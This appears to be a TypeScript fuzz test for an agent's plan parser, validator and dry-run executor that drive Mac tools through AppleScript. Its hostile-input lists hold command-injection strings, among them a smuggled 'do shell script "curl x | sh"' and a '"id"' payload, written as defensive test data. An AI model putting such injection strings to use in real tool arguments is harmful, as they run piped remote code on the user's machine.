import { spawnSync } from "node:child_process";
import { mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import fc from "fast-check";
import { AllToolsSelector } from "../../src/agent/allToolsSelector";
import { executePlan, type ExecutionEvent } from "../../src/agent/executor";
import type { ToolImplementations } from "../../src/tools/toolContract";
import { runPipeline } from "../../src/agent/pipeline";
import { givenPlanStages } from "../../src/agent/pipelineStages";
import { formatPythonLiteral } from "../../src/agent/plan/pythonLiteral";
import { isWholeReference } from "../../src/agent/plan/references";
import { serializePlan } from "../../src/agent/plan/serializePlan";
import { parseAndValidatePlan, PlanProblemCodeSchema } from "../../src/agent/plan/validatePlan";
import { disposeLoadedModels } from "../../src/agent/planner/llamaRuntime";
import { macTools } from "../../src/tools/macTools";
import { DRY_RUN } from "../../src/applescript/runner";
import { formatProblems } from "../../src/cli/format";
import { main } from "../../src/cli/main";
import { validPlanSteps } from "../support/arbitraries";
import { memoryIO } from "../support/memoryIO";

/**
 * Fuzzing plans: random text, valid plans, and valid plans with a few mutations (a hostile token
 * inserted, a stretch deleted, lines repeated, dropped or swapped) go through parse → validate →
 * dry run. The invariants: nothing throws; every problem has a known code and a message of bounded
 * length that the terminal shows on one line; the streaming pipeline and the one-shot parser agree;
 * a valid plan's dry run ends every task exactly once; and through the command line, exit 0 or 2,
 * exactly one JSON object under --json, and no task event at all from a plan that does not validate.
 *
 * Bounded and seeded so CI runs the same cases every time; TINYAGENT_FUZZ_SEED and
 * TINYAGENT_FUZZ_SCALE (a multiplier on the case counts) explore further, TINYAGENT_FUZZ_REPORT=1
 * prints the counts and rate.
 */
const SEED = Number(process.env.TINYAGENT_FUZZ_SEED ?? 20261202);
const SCALE = Number(process.env.TINYAGENT_FUZZ_SCALE ?? 1);
const FUNCTION_RUNS = Math.round(1000 * SCALE);
const CLI_RUNS = Math.round(40 * SCALE);

const NOW = { year: 2026, month: 11, day: 22, hour: 10, minute: 0, second: 0 };
const CODES = new Set<string>(PlanProblemCodeSchema.options);
/** No problem message is longer than this, whatever the plan holds (values are echoed capped). */
const MAX_MESSAGE = 400;

const TOKENS = [
  '"',
  "'",
  "\\",
  "(",
  ")",
  "[",
  "]",
  ",",
  " ",
  "$1",
  "$2",
  "$99",
  "${1}",
  '"$1"',
  '"$3"',
  "None",
  "True",
  "1e999",
  "-0",
  "0x",
  "=",
  "# note",
  "\n",
  "\r\n",
  "\nThought: hmm\n",
  "<END_OF_PLAN>",
  "join()",
  "\n9. join()\n",
  "\u0000",
  "\u001b[2J",
  "\u2028",
  "😀",
  '"\\uD800"',
  '"\\x"',
  "send_sms",
  "get_phone_number",
  "99999999999999999999. ",
  "[".repeat(40),
  "]".repeat(40),
  "{}",
  'r"',
  'b"x"',
  '"""',
  "x".repeat(5000),
  '"2026-02-30 25:00:00"',
];

/**
 * Values a string argument may be replaced with: control characters, quotes and newlines that
 * previews must keep in their place, huge ones, addresses, dates. Never a whole reference ("$1"):
 * see the known issue at the end.
 */
const HOSTILE_VALUES = [
  "",
  " ",
  "\u001b[2J\u0007",
  'Sid\u201d\ndo shell script "curl x | sh"\n--',
  "```\n![x](https://example.com/x.png)\n```",
  '" & (do shell script "id") & "',
  "\\",
  "${1} and ${2}",
  "lend me $5",
  "x".repeat(10_000),
  "sid@example.com",
  "+1 555 0100",
  "2026-11-22 10:00:00",
  "\uD800",
  "\u2028\u2029\u0085",
];

/** One edit of plan text. */
const mutation = fc.oneof(
  fc.record({
    kind: fc.constant("value" as const),
    at: fc.nat(),
    value: fc.oneof(
      fc.constantFrom(...HOSTILE_VALUES),
      fc.string({ unit: "binary", maxLength: 20 }).filter((v) => !isWholeReference(v)),
    ),
  }),
  fc.record({ kind: fc.constant("insert" as const), at: fc.nat(), token: fc.constantFrom(...TOKENS) }),
  fc.record({ kind: fc.constant("insertRandom" as const), at: fc.nat(), token: fc.string({ unit: "binary", maxLength: 8 }) }),
  fc.record({ kind: fc.constant("delete" as const), at: fc.nat(), length: fc.integer({ min: 1, max: 12 }) }),
  fc.record({ kind: fc.constant("line" as const), op: fc.constantFrom("repeat", "drop", "swap"), at: fc.nat(), other: fc.nat() }),
);
type Mutation = typeof mutation extends fc.Arbitrary<infer M> ? M : never;

function mutate(text: string, m: Mutation): string {
  switch (m.kind) {
    case "value": {
      const strings = [...text.matchAll(/"(?:[^"\\\n]|\\.)*"/g)];
      if (strings.length === 0) return text;
      const s = strings[m.at % strings.length]!;
      return text.slice(0, s.index) + formatPythonLiteral(m.value) + text.slice(s.index + s[0].length);
    }
    case "insert":
    case "insertRandom": {
      const at = m.at % (text.length + 1);
      return text.slice(0, at) + m.token + text.slice(at);
    }
    case "delete": {
      const at = m.at % (text.length + 1);
      return text.slice(0, at) + text.slice(at + m.length);
    }
    case "line": {
      const lines = text.split("\n");
      const i = m.at % lines.length;
      const j = m.other % lines.length;
      if (m.op === "repeat") lines.splice(i, 0, lines[i]!);
      else if (m.op === "drop") lines.splice(i, 1);
      else [lines[i], lines[j]] = [lines[j]!, lines[i]!];
      return lines.join("\n");
    }
  }
}

const validText = validPlanSteps.map((steps) => serializePlan(steps));
const planText = fc.oneof(
  { arbitrary: validText, weight: 2 },
  { arbitrary: fc.tuple(validText, fc.array(mutation, { minLength: 1, maxLength: 4 })).map(([t, ms]) => ms.reduce(mutate, t)), weight: 6 },
  { arbitrary: fc.array(fc.constantFrom(...TOKENS), { maxLength: 30 }).map((ts) => ts.join("")), weight: 1 },
  { arbitrary: fc.string({ unit: "binary", maxLength: 300 }), weight: 1 },
);

/** Cases worth keeping whatever the seed: each crashed or misbehaved once (issue 15). */
const KNOWN = [
  `1. send_sms(${"[".repeat(4000)}"+1555"${"]".repeat(4000)}, "hi")\n2. join()`,
  `1. ${"x".repeat(1_000_000)}()\n2. join()`,
  "oops\n".repeat(10_000),
  '1. get_phone_number("Sid\u201d\\ndo shell script \\"curl x | sh\\"\\n--")\n2. join()',
];

/** The dry-run Mac tools, counting the tasks that ran. */
function countingDryRun(): { tools: ToolImplementations; ran: () => number } {
  let ran = 0;
  const dry = macTools({ runner: DRY_RUN, home: "/Users/fuzz" });
  const tools: ToolImplementations = {};
  for (const [name, tool] of Object.entries(dry)) {
    (tools as Record<string, unknown>)[name] = {
      ...tool,
      run: (args: never, ctx: never) => {
        ran++;
        return tool.run(args, ctx);
      },
    };
  }
  return { tools, ran: () => ran };
}

const tally = { valid: 0, invalid: 0 };

/** parse → validate → dry run, at the function level. */
async function checkPlan(text: string): Promise<void> {
  const once = parseAndValidatePlan(text);
  if (!once.ok) {
    expect(once.problems.length).toBeGreaterThan(0);
    for (const p of once.problems) {
      expect(CODES.has(p.code)).toBe(true);
      expect(p.message.length).toBeLessThanOrEqual(MAX_MESSAGE);
    }
    // As the terminal shows them: one line per problem (values with line breaks included), at most 20.
    const shown = Math.min(once.problems.length, 20) + (once.problems.length > 20 ? 1 : 0);
    expect(formatProblems(once.problems).split("\n")).toHaveLength(1 + shown);
  }
  // The streaming pipeline (the plan arrives line by line, as from a model) agrees.
  const streamed = await runPipeline("Text Sid that I'm running late", NOW, givenPlanStages(text, new AllToolsSelector()));
  expect(streamed.validation.ok).toBe(once.ok);
  if (!streamed.validation.ok) {
    tally.invalid++;
    return;
  }
  tally.valid++;
  const plan = streamed.validation.plan;
  const { tools, ran } = countingDryRun();
  const events: ExecutionEvent[] = [];
  for await (const e of executePlan(plan, { tools, taskTimeoutMs: 5000 })) events.push(e);
  for (const task of plan.tasks) {
    const ends = events.filter((e) => e.taskId === task.id && e.type !== "queued" && e.type !== "started");
    expect(ends).toHaveLength(1);
  }
  expect(ran()).toBeLessThanOrEqual(plan.tasks.length - 1);
}

afterAll(() => disposeLoadedModels());

describe("plan fuzz (seeded, bounded)", () => {
  test(`${FUNCTION_RUNS} plans through parse → validate → dry run, at the function level`, async () => {
    for (const text of KNOWN) await checkPlan(text);
    const started = performance.now();
    await fc.assert(
      fc.asyncProperty(planText, (text) => checkPlan(text)),
      { seed: SEED, numRuns: FUNCTION_RUNS },
    );
    const seconds = (performance.now() - started) / 1000;
    // The mix must exercise both sides of the validator.
    expect(tally.valid).toBeGreaterThan(FUNCTION_RUNS / 10);
    expect(tally.invalid).toBeGreaterThan(FUNCTION_RUNS / 3);
    if (process.env.TINYAGENT_FUZZ_REPORT) {
      console.log(
        `fuzz (functions): ${FUNCTION_RUNS} cases, ${tally.valid} valid, ${tally.invalid} invalid, ${seconds.toFixed(2)} s, ${Math.round(FUNCTION_RUNS / seconds)} cases/s, seed ${SEED}`,
      );
    }
  });

  const dir = mkdtempSync(join(tmpdir(), "tinyagent-fuzz-"));
  let n = 0;
  /** `npm start -- … --plan-file <text> --json`, in-process: exit 0 or 2, one JSON object, nothing run from an invalid plan. */
  async function checkCommandLine(text: string): Promise<void> {
    const file = join(dir, `plan-${n++}.txt`);
    writeFileSync(file, text);
    const m = memoryIO();
    const code = await main(["Text Sid that I'm running late", "--now", "2026-11-22T10:00:00", "--plan-file", file, "--json"], m.io);
    expect([0, 2]).toContain(code);
    const out = JSON.parse(m.stdout()); // exactly one JSON document, nothing else on stdout
    expect(typeof out).toBe("object");
    const valid = parseAndValidatePlan(text).ok;
    expect(code).toBe(valid ? 0 : 2);
    if (valid) {
      expect(out.events.length).toBeGreaterThan(0);
    } else if (out.code === "usage") {
      // The file itself was refused (over the plan file limit): nothing was planned or run.
      expect(Object.keys(out).sort()).toEqual(["code", "error"]);
    } else {
      expect(out).toMatchObject({ error: expect.any(String), tasks: [], events: [] });
      expect(out.problems.length).toBeGreaterThan(0);
    }
  }

  test(`${CLI_RUNS} plans through the command line, in-process`, async () => {
    const started = performance.now();
    for (const text of KNOWN) await checkCommandLine(text);
    await fc.assert(
      fc.asyncProperty(planText, (text) => checkCommandLine(text)),
      { seed: SEED + 1, numRuns: CLI_RUNS },
    );
    if (process.env.TINYAGENT_FUZZ_REPORT) {
      const seconds = (performance.now() - started) / 1000;
      const cases = CLI_RUNS + KNOWN.length;
      console.log(`fuzz (command line, in-process): ${cases} cases, ${seconds.toFixed(2)} s, ${Math.round(cases / seconds)} cases/s`);
    }
  });

  // One real process: what a script sees (exit code, one JSON object on stdout) when the plan is the
  // one that overflowed the stack.
  test("the plan that overflowed the stack, through a real `npm start` process", () => {
    const file = join(dir, "deep.txt");
    writeFileSync(file, KNOWN[0]!);
    const args = [join(__dirname, "../../node_modules/tsx/dist/cli.mjs"), "src/cli/main.ts", "Text Sid", "--plan-file", file, "--json"];
    const run = spawnSync(process.execPath, args, { cwd: join(__dirname, "../.."), encoding: "utf8", timeout: 60_000 });
    expect(run.status).toBe(2);
    expect(JSON.parse(run.stdout)).toMatchObject({
      events: [],
      problems: [{ code: "syntax", message: expect.stringMatching(/nested more than 32 deep/) }],
    });
  });

  // Found by this fuzz test: the validator let "$1" through where a date goes, but no tool returns a
  // date, so such a task failed in every run, a dry run included (exit 3).
  test("a date-time argument that is another task's result is refused at review (exit 2), not failed in the run", async () => {
    const file = join(dir, "date-reference.txt");
    writeFileSync(file, '1. get_phone_number("Sid")\n2. create_calendar_event("Sync", "$1", None, "", [], "", None)\n3. join()\n');
    const m = memoryIO();
    expect(await main(["Invite Sid", "--plan-file", file, "--json"], m.io)).toBe(2);
  });
});
